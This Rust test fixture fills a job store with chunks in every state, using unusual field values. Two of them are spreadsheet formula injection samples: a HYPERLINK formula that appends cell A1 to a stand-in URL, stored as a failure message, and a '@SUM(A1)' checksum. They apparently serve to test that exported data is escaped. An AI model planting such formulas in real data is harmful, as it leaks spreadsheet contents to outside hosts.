//! A store with a chunk in every state that there is, and every column both filled and empty.

use std::sync::Arc;

use magnetar::{
    Backoff, Claim, ClaimRequest, Completion, DependencyFailure, JobSpec, JobState, JobStore, Json, NewChunk,
    OpenOptions, OwnerId, Selection,
};

use crate::support::{Living, ManualClock, Place};

/// The time at which the zoo begins: 2023-11-14T22:13:20Z.
pub(crate) const START_MS: u64 = 1_700_000_000_000;

pub(crate) const JOB: i64 = 42;

/// A job without chunks.
pub(crate) const EMPTY_JOB: i64 = 43;

/// What a spreadsheet would run.
pub(crate) const FORMULA: &str = "=HYPERLINK(\"http://example.com?\"&A1)";

pub(crate) struct Zoo {
    pub(crate) store: Arc<dyn JobStore>,
    pub(crate) clock: Arc<ManualClock>,
    pub(crate) living: Arc<Living>,
}

/// Who has opened it.
pub(crate) const OWNER: OwnerId = OwnerId::from_bytes([0xab; 16]);

pub(crate) fn open(place: &dyn Place) -> Zoo {
    let (clock, living) = (Arc::new(ManualClock::at(START_MS)), Arc::<Living>::default());
    let options = OpenOptions::new().clock(clock.clone()).liveness(living.clone()).owner(OWNER);
    Zoo { store: place.open(&options).expect("a new store opens"), clock, living }
}

fn chunks() -> Vec<NewChunk> {
    let json = |text| Json::from_text(text).expect("it is JSON");
    vec![
        NewChunk::new(1).checksum("abc").payload(json(r#"{"path":"a.bin"}"#)).priority(9),
        NewChunk::new(2).checksum("@SUM(A1)").attempts_max(1),
        NewChunk::new(3).priority(-3),
        NewChunk::new(4).payload(json("[1,2.50,\"zwölf\",null]")),
        NewChunk::new(5).checksum("'quoted,\r\nwith\ta \"comma\"").payload(json("{\n  \"lines\": 2\n}")),
        NewChunk::new(6).depends_on([4, 5]),
        NewChunk::new(7).losses_max(2),
        NewChunk::new(8).depends_on([2]).on_dependency_failure(DependencyFailure::Cancel),
        NewChunk::new(9).depends_on([2, 5]).on_dependency_failure(DependencyFailure::Ignore),
        NewChunk::new(10).checksum("\0nul").payload(json("null")),
        NewChunk::new(11).checksum("").depends_on([1]).on_dependency_failure(DependencyFailure::Wait),
    ]
}

async fn take(store: &dyn JobStore, chunk: u64) -> Claim {
    let taken = store.claim_pending(JOB).await.expect("it can be claimed").expect("something is ready");
    assert_eq!(taken.chunk, chunk);
    taken.claim()
}

/// Fills a store.
pub(crate) async fn fill(zoo: &Zoo) {
    let Zoo { store, clock, .. } = zoo;
    let spec = JobSpec::new()
        .name("zoo, \"all\" animals")
        .lease_ms(30_000)
        .backoff(Backoff::new().initial_ms(2_000).max_ms(8_000));
    let all = magnetar::chunks(chunks().into_iter().map(Ok));
    store.import(JOB, &spec, all, &Default::default()).await.expect("it is imported");
    store
        .import(EMPTY_JOB, &JobSpec::new(), magnetar::chunks(std::iter::empty()), &Default::default())
        .await
        .expect("it is created");
    clock.advance(1_500);

    let first = take(&**store, 1).await;
    let output = Json::from_text(r#"{"rows":3}"#).expect("it is JSON");
    store.complete(&first, Completion::new().checksum("abc").output(output)).await.expect("it is held");
    let second = take(&**store, 2).await;
    store.fail(&second, FORMULA).await.expect("it is held");
    store.cancel(JOB, Selection::Chunks(vec![3])).await.expect("it is pending");

    let held =
        store.claim(&ClaimRequest::new().job(JOB).count(4).lease_ms(60_000)).await.expect("they are ready");
    let ids: Vec<u64> = held.iter().map(|state| state.chunk).collect();
    assert_eq!(ids, [4, 5, 7, 10]);
    let claim = |at: usize| JobState::claim(&held[at]);
    store.release(&claim(1)).await.expect("it is held");
    clock.advance(250);
    store.fail(&claim(2), "not today").await.expect("it is held");
    store.release(&claim(3)).await.expect("it is held");
    // One that its worker let lapse: a late result would still be taken.
    let lost =
        store.claim(&ClaimRequest::new().job(JOB).count(3).lease_ms(1_000)).await.expect("they are ready");
    assert_eq!(lost.iter().map(|state| state.chunk).collect::<Vec<_>>(), [5, 10, 11]);
    store.release(&lost[0].claim()).await.expect("it is held");
    store.release(&lost[1].claim()).await.expect("it is held");
    clock.advance(1_000);
    store.resume_pending(JOB).await.expect("it resumes");
}
